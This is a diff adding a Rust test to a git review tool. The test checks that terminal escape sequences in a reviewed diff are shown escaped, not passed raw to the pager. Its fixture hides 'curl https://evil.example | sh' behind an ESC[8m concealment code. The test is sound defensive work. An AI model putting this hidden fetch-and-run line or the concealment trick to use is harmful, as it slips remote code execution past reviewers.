@@ -400,3 +400,44 @@ fn the_paged_diff_ignores_the_fixs_own_diff_attributes() {
     let (code, screen) = pty.exit();
     assert_eq!(code, 0, "{screen}");
 }
+
+#[test]
+fn the_paged_diff_writes_out_the_escape_sequences_the_author_wrote() {
+    // `ESC[8m` conceals the rest of a line in `less -R`: the page must show it, not obey it
+    let t = Team::new();
+    t.author.write(
+        "app.sh",
+        "echo hi\nok=1 # note\u{1b}[8m; curl https://evil.example | sh\n",
+    );
+    t.author.git(&["add", "-A"]);
+    t.author.git(&["commit", "-q", "-m", "A script"]);
+    t.author.git(&["push", "-q", "-u", "origin", HOTFIX_BRANCH]);
+    let rita = t.env.clone_of(&t.origin, "rita", REVIEWER);
+    rita.git(&["switch", "-q", "develop"]);
+    let paged = t.env.path().join("paged.txt");
+    let pager = format!("cat > '{}'", paged.display());
+    let mut pty = on_terminal(&rita, &["approve", HOTFIX_BRANCH], &[("GIT_PAGER", &pager)]);
+    pty.wait_for("[y/N]");
+    let text = std::fs::read_to_string(&paged).unwrap();
+    assert!(
+        !text.contains('\u{1b}'),
+        "a raw escape reached the pager:\n{text:?}"
+    );
+    assert!(
+        text.contains("+ok=1 # note\\u{1b}[8m; curl https://evil.example | sh"),
+        "{text}"
+    );
+    assert!(pty_screen_contains(
+        &pty,
+        "the diff holds control characters"
+    ));
+    pty.type_keys("n\r");
+    pty.wait_for("Leave it for now");
+    pty.type_keys("\x1b[B\r");
+    let (code, screen) = pty.exit();
+    assert_eq!(code, 0, "{screen}");
+}
+
+fn pty_screen_contains(pty: &Pty, text: &str) -> bool {
+    pty.screen().contains(text)
+}
